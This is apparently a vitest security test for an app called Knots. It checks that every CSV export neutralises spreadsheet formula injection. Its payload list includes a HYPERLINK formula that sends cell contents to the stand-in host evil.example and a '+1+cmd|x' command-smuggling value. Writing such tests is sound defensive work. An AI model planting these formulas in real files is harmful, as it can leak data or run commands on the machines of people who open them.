import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { teamWithJune } from '../server/review-team.ts'
import type { TestApp } from '../support/app.ts'
import { randomId, randomSecret } from '../support/retro.ts'

const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  '+1+cmd|x',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
]

/** Every address of a team that answers with CSV. */
async function csvPaths({ app }: Awaited<ReturnType<typeof teamWithJune>>): Promise<string[]> {
  const { paths } = (await app.get('/api/openapi.json')).json() as {
    paths: Record<string, Record<string, unknown>>
  }
  const all = Object.keys(paths).filter(
    path => path.endsWith('.csv') && 'get' in (paths[path] ?? {}),
  )
  return all.map(path => path.replace('/api/teams/{team}', '').replace('{id}', 'june'))
}

/** A board on which every formula is a card that all can see. */
async function holdRetro(url: string, app: TestApp) {
  const opened = (await app.post(url, {})).json()
  for (const text of formulas) {
    const card = { id: randomId(), place: 'wind', text, secret: randomSecret() }
    expect((await app.post(`${url}/cards`, card)).statusCode).toBe(201)
  }
  const shown = await app.post(`${url}/phase`, { from: opened.board.phase, to: 'group' })
  expect(shown.statusCode, shown.body).toBe(200)
}

test('no cell of any CSV that leaves Knots is one that a spreadsheet runs, whatever people wrote', async () => {
  const june = await teamWithJune()
  const paths = await csvPaths(june)
  expect(paths.length).toBeGreaterThanOrEqual(4)
  await holdRetro(`${june.url}/sprints/june/retro`, june.app)
  for (const [index, text] of formulas.entries()) {
    await june.rename('a', text)
    const { version } = await june.sprintOf()
    const edit = { version, title: text, excluded: { reason: text } }
    const renamed = await june.app.patch(`${june.url}/sprints/june`, edit)
    expect(renamed.statusCode, renamed.body).toBe(200)
    const noteEdit = { version: index === 0 ? null : index, text }
    const note = await june.app.put(`${june.url}/sprints/june/items/c/note`, noteEdit)
    expect(note.statusCode, note.body).toBe(200)

    for (const path of paths) {
      const { body, headers } = await june.app.get(`${june.url}${path}`)
      expect(headers['content-type'], path).toMatch(/^text\/csv/)
      const cells = (parse(body, { relaxColumnCount: true }) as string[][]).flat()
      const texts = cells.filter(cell => cell !== '' && Number.isNaN(Number(cell)))
      expect(
        texts.filter(cell => /^[=+\-@\t\r]/.test(cell)),
        path,
      ).toEqual([])
      // What was written is in it all the same.
      expect(
        cells.some(cell => cell.includes(text.trim())),
        `${path} ${text}`,
      ).toBe(true)
    }
  }
})
